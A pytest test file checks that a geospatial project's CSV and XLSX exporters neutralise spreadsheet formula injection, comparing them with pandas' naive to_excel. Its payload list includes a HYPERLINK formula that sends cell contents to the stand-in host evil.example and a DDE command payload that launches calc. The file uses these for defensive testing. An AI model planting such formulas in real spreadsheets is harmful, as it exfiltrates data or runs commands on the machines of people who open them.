"""Spreadsheets safe to open in Excel and WPS (BAD-INPUTS case 9): real CSV and XLSX files, read back independently.

CSV files are read with Python's csv module, workbooks by parsing the sheet XML
with zipfile + ElementTree and with python-calamine (an independent reader);
openpyxl, which writes them, is used only as a third opinion.
"""

from __future__ import annotations

import csv
import datetime as dt
import logging
import math
import re
import tempfile
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from shapely.geometry import Point, box

from gridmap.errors import SchemaError
from gridmap.analysis.coverage import CSV_COLUMNS, CoverageResult
from gridmap.export.spreadsheet import FORMULA_PREFIXES, neutralise_frame, neutralise_text, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [
    HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
    '"=1+1"', "=王小明", "王小明", "-", "北大街, 文庙巷", 'he said "clean it"', "第一行\n第二行", "a\r\nb",
    "#N/A", "_x000D_", "'already quoted", "",
]
# The rule, written out again here (OWASP "CSV Injection" list plus LF) so the tests do not trust the module.
DANGEROUS = set("=+-@\t\r\n")
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
BOM = b"\xef\xbb\xbf"


def expected_text(text: str) -> str:
    return "'" + text if text[:1] in DANGEROUS else text


def scoreboard() -> pd.DataFrame:
    """Payloads with codes, counts (negatives) and scores (negatives, NaN), on a non-default index."""
    n = len(PAYLOADS)
    return pd.DataFrame({
        "community_code": [f"610802001{k % 6 + 1:03d}" for k in range(n)],
        "text": PAYLOADS,
        "count": [(-1) ** k * k * 7 for k in range(n)],
        "score": [np.nan if k % 5 == 0 else (-1) ** k * (k + 0.25) / 3 for k in range(n)],
    }, index=pd.Index(range(100, 100 + n), name="rank"))


def read_csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def sheet_cells(path: Path, sheet: int = 1) -> dict[tuple[int, int], ElementTree.Element]:
    """Cells of a sheet by (row, column), both 1-based, parsed from the raw XML."""
    with zipfile.ZipFile(path) as zf:
        root = ElementTree.fromstring(zf.read(f"xl/worksheets/sheet{sheet}.xml"))
    cells = {}
    for c in root.iter(f"{{{NS['m']}}}c"):
        letters, digits = re.fullmatch(r"([A-Z]+)(\d+)", c.get("r", "")).groups()  # type: ignore[union-attr]
        col = 0
        for ch in letters:
            col = col * 26 + ord(ch) - 64
        cells[(int(digits), col)] = c
    return cells


def formula_elements(path: Path) -> int:
    with zipfile.ZipFile(path) as zf:
        names = [n for n in zf.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        return sum(len(ElementTree.fromstring(zf.read(n)).findall(".//m:f", NS)) for n in names)


def calamine_rows(path: Path, sheet: int = 0) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(sheet).to_python()


# ---------------------------------------------------------------------------------------------------------------
# neutralise_text / neutralise_frame
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralise_text_prefixes_exactly_the_dangerous_ones(text: str) -> None:
    out = neutralise_text(text)
    assert out == expected_text(text)
    assert not out.startswith(tuple(DANGEROUS))
    assert out == text or (out[0] == "'" and out[1:] == text)


def test_formula_prefixes_are_owasp_plus_line_feed() -> None:
    assert set(FORMULA_PREFIXES) == DANGEROUS and len(FORMULA_PREFIXES) == 7
    assert neutralise_text("=王小明") == "'=王小明" and neutralise_text("王小明") == "王小明"


def test_neutralise_text_refuses_non_text() -> None:
    with pytest.raises(SchemaError, match="takes a str, got int.*neutralise_frame"):
        neutralise_text(3)  # type: ignore[arg-type]


def test_neutralise_frame_keeps_index_numbers_and_caller_data() -> None:
    frame = scoreboard()
    frame["mixed"] = ["-3.5", -3.5, None, 7, "=x"] + [None] * (len(frame) - 5)
    frame["stamp"] = pd.Timestamp("2025-03-01 08:00", tz="Asia/Shanghai")
    frame["flag"] = [k % 2 == 0 for k in range(len(frame))]
    frame["label"] = pd.Series(PAYLOADS, index=frame.index, dtype="string")
    frame["kind"] = pd.Categorical(["=a", "b"] * (len(frame) // 2) + ["b"] * (len(frame) % 2))
    before = frame.copy(deep=True)
    out = neutralise_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is untouched
    assert out.index.equals(frame.index) and list(out.columns) == list(frame.columns)
    assert out["text"].tolist() == [expected_text(t) for t in PAYLOADS]
    assert out["label"].dtype == frame["label"].dtype and out["label"].tolist() == [expected_text(t) for t in PAYLOADS]
    for name in ("count", "score", "stamp", "flag"):
        pd.testing.assert_series_equal(out[name], frame[name])
    assert out["mixed"].iloc[:5].tolist()[:2] == ["'-3.5", -3.5] and isinstance(out["mixed"].iloc[1], float)
    assert out["mixed"].iloc[3] == 7 and out["mixed"].iloc[4] == "'=x" and out["mixed"].iloc[2] is None
    assert out["kind"].dtype.name == "category" and set(out["kind"].cat.categories) == {"'=a", "b"}


def test_neutralise_frame_categories_that_would_collide_become_text() -> None:
    frame = pd.DataFrame({"kind": pd.Categorical(["=a", "'=a", "b"])})
    out = neutralise_frame(frame)
    assert out["kind"].tolist() == ["'=a", "'=a", "b"]


def test_neutralise_frame_keeps_a_geodataframe() -> None:
    gdf = gpd.GeoDataFrame({"name": ["@x", "y"]}, geometry=[Point(109.73, 38.29), Point(109.74, 38.3)],
                           crs="EPSG:4326", index=[5, 9])
    out = neutralise_frame(gdf)
    assert isinstance(out, gpd.GeoDataFrame) and out.crs == gdf.crs and list(out.index) == [5, 9]
    assert out["name"].tolist() == ["'@x", "y"] and gdf["name"].iloc[0] == "@x"
    assert out.geometry.equals(gdf.geometry)


# ---------------------------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------------------------


def test_csv_payloads_read_back_with_the_csv_module(tmp_path: Path) -> None:
    frame = scoreboard()
    before = frame.copy(deep=True)
    path = write_csv(frame, tmp_path / "board.csv")
    pd.testing.assert_frame_equal(frame, before)
    assert path.read_bytes().startswith(BOM)
    rows = read_csv_rows(path)
    assert rows[0] == ["community_code", "text", "count", "score"]  # no index column
    assert len(rows) == len(frame) + 1
    for row, (_, source) in zip(rows[1:], frame.iterrows(), strict=True):
        code, text, count, score = row
        assert code == source["community_code"]
        assert text == expected_text(source["text"]) and not text.startswith(tuple(DANGEROUS))
        assert text == source["text"] or text[1:] == source["text"]
        assert int(count) == source["count"]
        assert (score == "") if math.isnan(source["score"]) else float(score) == source["score"]


def test_csv_quotes_text_and_never_numbers(tmp_path: Path) -> None:
    frame = scoreboard()
    path = write_csv(frame, tmp_path / "board.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        fh.readline()  # the header is quoted only where needed
        rows = list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))  # unquoted fields become floats
    for row, (_, source) in zip(rows, frame.iterrows(), strict=True):
        assert isinstance(row[0], str) and isinstance(row[1], str)
        assert row[2] == source["count"] and isinstance(row[2], float)
        assert row[3] == "" if math.isnan(source["score"]) else row[3] == source["score"]


def test_csv_raw_text_exactly() -> None:
    frame = pd.DataFrame({"label": ["-1+1", "王小明", "a,\"b\""], "count": [-3, 4, 0], "score": [-3.5, np.nan, 0.1],
                          "ok": [True, False, True]})
    with tempfile.TemporaryDirectory() as tmp:
        raw = write_csv(frame, Path(tmp) / "raw.csv").read_bytes()
    assert raw == BOM + ('label,count,score,ok\r\n"\'-1+1",-3,-3.5,TRUE\r\n"王小明",4,,FALSE\r\n'
                         '"a,""b""",0,0.1,TRUE\r\n').encode("utf-8")


def test_csv_nullable_and_arrow_dtypes(tmp_path: Path) -> None:
    utc = pd.Series(pd.to_datetime(["2025-03-01 00:30", None]), dtype="datetime64[ns]").dt.tz_localize("UTC")
    frame = pd.DataFrame({"i": pd.array([-7, None], dtype="Int64"), "f": pd.array([None, -0.5], dtype="Float64"),
                          "b": pd.array([True, None], dtype="boolean"), "s": pd.array(["@x", None], dtype="string"),
                          "t": utc.astype("timestamp[us, tz=Asia/Shanghai][pyarrow]")})
    raw = write_csv(frame, tmp_path / "n.csv").read_bytes()
    assert raw == BOM + ('i,f,b,s,t (Asia/Shanghai)\r\n-7,,TRUE,"\'@x","2025-03-01 08:30:00"\r\n'
                         ',-0.5,,,\r\n').encode("utf-8")


def test_csv_times_in_their_own_zone_with_the_zone_in_the_header(tmp_path: Path) -> None:
    utc = pd.Series(pd.to_datetime(["2025-03-01 00:30:00", "2025-03-01 16:00:00.250", None], format="ISO8601"),
                    dtype="datetime64[ns]")
    frame = pd.DataFrame({
        "reported_at": utc.dt.tz_localize("UTC").dt.tz_convert("Asia/Shanghai"),
        "naive": utc,
        "mixed": [pd.Timestamp("2025-03-01 08:00", tz="Asia/Shanghai"), dt.date(2025, 3, 2), None],
    })
    rows = read_csv_rows(write_csv(frame, tmp_path / "t.csv"))
    assert rows[0] == ["reported_at (Asia/Shanghai)", "naive", "mixed"]
    # China Standard Time is UTC+8 all year: 00:30 UTC is 08:30, 16:00 UTC is 00:00 the next day
    assert rows[1] == ["2025-03-01 08:30:00", "2025-03-01 00:30:00", "2025-03-01 08:00:00+08:00"]
    assert rows[2] == ["2025-03-02 00:00:00.250000", "2025-03-01 16:00:00.250000", "2025-03-02"]
    assert rows[3] == ["", "", ""]


def test_csv_infinity_is_text_and_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
        rows = read_csv_rows(write_csv(pd.DataFrame({"x": [np.inf, -np.inf, 1.0]}), tmp_path / "inf.csv"))
    assert [r[0] for r in rows[1:]] == ["inf", "'-inf", "1.0"]
    assert "2 infinite numbers" in caplog.text


def test_csv_refuses_a_geometry_column(tmp_path: Path) -> None:
    gdf = gpd.GeoDataFrame({"name": ["a"]}, geometry=[Point(109.73, 38.29)], crs="EPSG:4326")
    with pytest.raises(SchemaError, match=r"column 'geometry' holds geometries.*lon/lat.*drop\(columns='geometry'\)"):
        write_csv(gdf, tmp_path / "g.csv")
    assert not (tmp_path / "g.csv").exists()
    plain = pd.DataFrame(gdf.drop(columns="geometry")).assign(lon=gdf.geometry.x, lat=gdf.geometry.y)
    assert read_csv_rows(write_csv(plain, tmp_path / "g.csv"))[1] == ["a", "109.73", "38.29"]


def test_csv_unencodable_text_is_a_clear_error_and_leaves_no_file(tmp_path: Path) -> None:
    with pytest.raises(SchemaError, match="cannot be written in gbk.*utf-8-sig"):
        write_csv(pd.DataFrame({"t": ["榆林 \U0001F600"]}), tmp_path / "x.csv", encoding="gbk")
    assert list(tmp_path.iterdir()) == []


def test_coverage_csv_keeps_its_header_and_neutralises_line_feeds(tmp_path: Path) -> None:
    grids = gpd.GeoDataFrame({
        "grid_code": ["610802001001001", "610802001001002"], "name": ["\n=1+1", "-"],
        "community_code": ["610802001001"] * 2, "cadre": [HYPERLINK, "王小明"], "cadre_phone": ["13800000001"] * 2,
        "area_code": ["610802001A1"] * 2, "area_m2": [100.0, 50.0], "covered_m2": [25.0, 50.0],
        "uncovered_m2": [75.0, 0.0], "coverage_ratio": [0.25, 1.0], "dead_corners": [1, 0],
    }, geometry=[box(0, 0, 1, 1), box(1, 0, 2, 1)], crs="EPSG:4326")
    empty = gpd.GeoDataFrame(geometry=gpd.GeoSeries([], crs=4326), crs=4326)
    result = CoverageResult(grids, empty, empty, None, pd.DataFrame(), pd.DataFrame())
    path = result.to_csv(tmp_path / "coverage.csv")
    text = path.read_text(encoding="utf-8-sig")
    assert text.splitlines()[0] == ("grid_code,name,community_code,cadre,area_code,area_m2,covered_m2,"
                                    "uncovered_m2,coverage_ratio,dead_corners") == ",".join(CSV_COLUMNS)
    rows = read_csv_rows(path)
    assert rows[1][:4] == ["610802001001001", "'\n=1+1", "610802001001", "'" + HYPERLINK]
    assert rows[2][1] == "'-" and rows[1][5:] == ["100.0", "25.0", "75.0", "0.25", "1"]
    assert "13800000001" not in text


# ---------------------------------------------------------------------------------------------------------------
# XLSX
# ---------------------------------------------------------------------------------------------------------------


def test_xlsx_raw_xml_has_no_formula_and_numbers_are_numbers(tmp_path: Path) -> None:
    frame = scoreboard()
    path = write_xlsx(frame, tmp_path / "board.xlsx")
    cells = sheet_cells(path)
    assert formula_elements(path) == 0
    assert not [c for c in cells.values() if c.find("m:f", NS) is not None or c.get("t") in ("str", "e")]
    for i, (_, source) in enumerate(frame.iterrows(), start=2):
        for j in (1, 2):
            text_cell = cells.get((i, j))
            assert text_cell is not None and text_cell.get("t") == "inlineStr"
        count = cells[(i, 3)]
        assert count.get("t") in (None, "n") and float(count.find("m:v", NS).text) == source["count"]  # type: ignore
        if math.isnan(source["score"]):
            assert (i, 4) not in cells or cells[(i, 4)].find("m:v", NS) is None
        else:
            score = cells[(i, 4)]
            value = score.find("m:v", NS)
            assert score.get("t") in (None, "n") and value is not None and float(str(value.text)) == source["score"]


def test_xlsx_read_back_with_calamine(tmp_path: Path) -> None:
    frame = scoreboard()
    before = frame.copy(deep=True)
    path = write_xlsx(frame, tmp_path / "board.xlsx", sheet_name="督查通报")
    pd.testing.assert_frame_equal(frame, before)
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["督查通报"]
    rows = book.get_sheet_by_index(0).to_python()
    assert rows[0] == ["community_code", "text", "count", "score"]
    for row, (_, source) in zip(rows[1:], frame.iterrows(), strict=True):
        assert row[0] == source["community_code"]
        assert row[1] == expected_text(source["text"])  # CR, quotes, commas, "_x000D_" all exact
        assert row[2] == source["count"]
        assert row[3] == "" if math.isnan(source["score"]) else row[3] == source["score"]


def test_xlsx_openpyxl_sees_no_formula_and_a_frozen_bold_header(tmp_path: Path) -> None:
    frame = scoreboard().rename(columns={"text": "=SUM(A1:A9)"})
    path = write_xlsx(frame, tmp_path / "board.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    types = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in types and "e" not in types
    header = [c for c in sheet[1]]
    assert [c.value for c in header] == ["community_code", "'=SUM(A1:A9)", "count", "score"]
    assert all(c.font.b and c.data_type == "s" for c in header)
    assert sheet.freeze_panes == "A2"
    assert sheet["B" + str(PAYLOADS.index("#N/A") + 2)].data_type == "s"  # openpyxl alone would make an error cell


def test_xlsx_column_widths_count_cjk_double(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["鼓楼街道二里半社区"], "code": ["abcdefghi"], "n": [1]})
    sheet = openpyxl.load_workbook(write_xlsx(frame, tmp_path / "w.xlsx")).active
    assert sheet is not None
    wide, narrow = sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width
    assert wide == 9 * 2 + 2 and narrow == 9 + 2 and sheet.column_dimensions["C"].width == 6


def test_xlsx_times_are_date_cells_in_their_own_zone(tmp_path: Path) -> None:
    utc = pd.Series(pd.to_datetime(["2025-03-01 00:30:00", None]), dtype="datetime64[ns]")
    frame = pd.DataFrame({"reported_at": utc.dt.tz_localize("UTC").dt.tz_convert("Asia/Shanghai"), "naive": utc,
                          "old": [dt.datetime(1850, 5, 1, 12, 0), None],
                          "mixed": [pd.Timestamp("2025-03-01 08:00", tz="Asia/Shanghai"), dt.date(2025, 3, 2)]})
    path = write_xlsx(frame, tmp_path / "t.xlsx")
    rows = calamine_rows(path)
    assert rows[0] == ["reported_at (Asia/Shanghai)", "naive", "old", "mixed"]
    assert rows[1][:2] == [dt.datetime(2025, 3, 1, 8, 30), dt.datetime(2025, 3, 1, 0, 30)]
    assert rows[1][2:] == ["1850-05-01 12:00:00", "2025-03-01 08:00:00+08:00"]
    assert rows[2] == ["", "", "", dt.date(2025, 3, 2)]
    cell = sheet_cells(path)[(2, 1)]
    assert cell.get("t") in (None, "n")
    # Excel serial of 2025-03-01 08:30 (1900 date system): days since 1899-12-30, plus the fraction of the day
    serial = (dt.datetime(2025, 3, 1, 8, 30) - dt.datetime(1899, 12, 30)).total_seconds() / 86400
    assert float(cell.find("m:v", NS).text) == pytest.approx(serial, abs=1e-9)  # type: ignore[union-attr]


def test_xlsx_big_integers_infinity_and_bools(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    frame = pd.DataFrame({"n": [2**60, -(2**60), 610802001003005, 3], "f": [np.inf, -np.inf, 0.5, -0.5],
                          "b": [True, False, True, False]})
    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
        path = write_xlsx(frame, tmp_path / "n.xlsx")
    rows = calamine_rows(path)
    assert [r[0] for r in rows[1:]] == [str(2**60), "'" + str(-(2**60)), 610802001003005, 3]
    assert [r[1] for r in rows[1:]] == ["inf", "'-inf", 0.5, -0.5]
    assert [r[2] for r in rows[1:]] == [True, False, True, False]
    assert "2 integers beyond 2**53" in caplog.text and "2 infinite numbers" in caplog.text
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None and sheet["A4"].number_format == "0" and sheet["A5"].number_format == "General"


def test_xlsx_illegal_characters_become_replacement_characters(tmp_path: Path,
                                                               caplog: pytest.LogCaptureFixture) -> None:
    frame = pd.DataFrame({"t": ["a\x00b", "\x07=1+1", "ok\ttab", "\uffff"]})
    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
        path = write_xlsx(frame, tmp_path / "c.xlsx")
    assert [r[0] for r in calamine_rows(path)[1:]] == ["a\ufffdb", "\ufffd=1+1", "ok\ttab", "\ufffd"]
    assert "3 text cells held characters" in caplog.text


def test_xlsx_refuses_text_longer_than_excel_holds(tmp_path: Path) -> None:
    frame = pd.DataFrame({"ok": ["x" * 32_767, "y"], "long": ["z", "w" * 32_768]})
    with pytest.raises(SchemaError, match=r"cell B3 of sheet 'Sheet1' holds 32,768 characters.*at most 32,767"):
        write_xlsx(frame, tmp_path / "long.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_xlsx_sheet_names_are_sanitised_and_unique(tmp_path: Path) -> None:
    f = pd.DataFrame({"a": [1]})
    frames = {"a/b": f, "A:B": f, "=cmd|' /C calc'!A0": f, "x" * 40: f, "'q'": f, "history": f, "": f}
    path = write_xlsx(frames, tmp_path / "s.xlsx")
    expected = ["a_b", "A_B (2)", "_=cmd|' _C calc'!A0", "x" * 31, "q", "history_", "Sheet"]
    assert CalamineWorkbook.from_path(str(path)).sheet_names == expected
    assert openpyxl.load_workbook(path).sheetnames == expected
    assert all(calamine_rows(path, k) == [["a"], [1]] for k in range(len(expected)))


def test_xlsx_refuses_geometry_and_empty_input(tmp_path: Path) -> None:
    gdf = gpd.GeoDataFrame({"name": ["a"]}, geometry=[Point(109.73, 38.29)], crs="EPSG:4326")
    with pytest.raises(SchemaError, match="holds geometries.*lon/lat"):
        write_xlsx({"reports": gdf}, tmp_path / "g.xlsx")
    with pytest.raises(SchemaError, match="got no frame"):
        write_xlsx({}, tmp_path / "e.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_peer_to_excel_writes_a_live_formula_and_ours_does_not(tmp_path: Path) -> None:
    """BAD-INPUTS case 9, shown on the naive peer: pandas to_excel with openpyxl."""
    frame = pd.DataFrame({"cadre": [HYPERLINK, "王小明"], "score": [-1.5, 2.0]})
    peer = tmp_path / "peer.xlsx"
    frame.to_excel(peer, engine="openpyxl", index=False)
    assert formula_elements(peer) == 1
    peer_cell = sheet_cells(peer)[(2, 1)]
    assert peer_cell.find("m:f", NS).text == HYPERLINK[1:]  # type: ignore[union-attr]
    ours = write_xlsx(frame, tmp_path / "ours.xlsx")
    assert formula_elements(ours) == 0
    assert calamine_rows(ours)[1] == ["'" + HYPERLINK, -1.5]


# ---------------------------------------------------------------------------------------------------------------
# any text round-trips
# ---------------------------------------------------------------------------------------------------------------

SPECIAL = st.sampled_from(list("=+-@\t\r\n\x00\x01\x0b\x1f'\",_x0Dd;")
                          + ["_x000D_", "_x005F_", "\ufffe", "\uffff", "\ufeff", "王", "\r\n"])
# st.text() itself, and texts built from pieces that hit the edge cases far more often, half of them
# starting with a formula character (or something close to one)
BODY = st.one_of(st.text(), st.lists(st.one_of(SPECIAL, st.characters()), max_size=12).map("".join))
START = st.one_of(st.just(""), st.sampled_from(sorted(DANGEROUS) + ["'", "_x000D_", "\x01", "\ufffe"]))
TEXT = st.builds(lambda start, body: start + body, START, BODY)
TEXTS = st.lists(TEXT, min_size=1, max_size=6)


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=TEXTS)
def test_any_text_round_trips_through_csv(texts: list[str]) -> None:
    frame = pd.DataFrame({"k": range(len(texts)), "t": texts})
    with tempfile.TemporaryDirectory() as tmp:
        rows = read_csv_rows(write_csv(frame, Path(tmp) / "h.csv"))
    assert [r[0] for r in rows[1:]] == [str(k) for k in range(len(texts))]
    for (_, got), text in zip(rows[1:], texts, strict=True):
        assert not got.startswith(tuple(DANGEROUS))
        assert got == text or (got[:1] == "'" and got[1:] == text and text[:1] in DANGEROUS)


# Whitespace at the edges of a text (XML 1.0 whitespace, and what Python's str.strip also strips).
EDGE_SPACE_TEXTS = [" ", "  ", "\t", "\n", " \n ", "  leading", "trailing  ", " both ", "\ttab", "line\n",
                    "\xa0", "\u3000全角", "a  b"]


def xstring_decoded(text: str) -> str:
    """ECMA-376 Part 1, §22.9.2.19 ST_Xstring: each ``_xHHHH_`` stands for the character U+HHHH."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def edge_space_t_elements(path: Path) -> list[tuple[str, bool]]:
    """(text, has xml:space="preserve") of every <t> element of the first sheet, from the raw XML."""
    space = "{http://www.w3.org/XML/1998/namespace}space"
    with zipfile.ZipFile(path) as zf:
        root = ElementTree.fromstring(zf.read("xl/worksheets/sheet1.xml"))
    return [(t.text or "", t.get(space) == "preserve") for t in root.iter(f"{{{NS['m']}}}t")]


def test_xlsx_whitespace_at_the_edges_is_preserved(tmp_path: Path) -> None:
    """ECMA-376 <t>: edge whitespace survives only with xml:space="preserve"; " " must not read back empty."""
    frame = pd.DataFrame({" header ": EDGE_SPACE_TEXTS})
    path = write_xlsx(frame, tmp_path / "space.xlsx")
    expected = [" header ", *(expected_text(t) for t in EDGE_SPACE_TEXTS)]  # "\t" and "\n" get their apostrophe
    elements = edge_space_t_elements(path)
    assert [text for text, _ in elements] == expected  # XML 1.0 keeps element text as is
    for text, preserved in elements:
        assert preserved == (text != text.strip()), repr(text)
    got_calamine = [row[0] for row in calamine_rows(path)]
    got_openpyxl = [c.value for c in openpyxl.load_workbook(path).active["A"]]  # type: ignore[union-attr]
    for got in (got_calamine, got_openpyxl):
        assert [list(g) for g in got] == [list(e) for e in expected]  # character by character


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=TEXTS)
@example(texts=[" "])
@example(texts=["  leading", "trailing  ", " ", "\t", "\n", " \n "])
def test_any_text_round_trips_through_xlsx(texts: list[str]) -> None:
    frame = pd.DataFrame({"k": range(len(texts)), "t": texts})
    with tempfile.TemporaryDirectory() as tmp:
        path = write_xlsx(frame, Path(tmp) / "h.xlsx")
        rows = calamine_rows(path)
        peer = [c.value for c in openpyxl.load_workbook(path).active["B"]][1:]  # type: ignore[union-attr]
        assert formula_elements(path) == 0
    assert [r[0] for r in rows[1:]] == list(range(len(texts)))
    for (_, got), other, text in zip(rows[1:], peer, texts, strict=True):
        assert not got.startswith(tuple(DANGEROUS))
        unapostrophed = got[1:] if text[:1] in DANGEROUS else got
        assert got[:1] == "'" or text[:1] not in DANGEROUS
        want = XML_ILLEGAL.sub("\ufffd", text)  # the documented U+FFFD replacement, undone
        assert list(unapostrophed) == list(want)  # character by character, whitespace at the edges included
        # openpyxl gives the raw XML text: undo the ST_Xstring escapes by the spec first (None: an empty text)
        assert list(xstring_decoded(other or "")) == list(got)
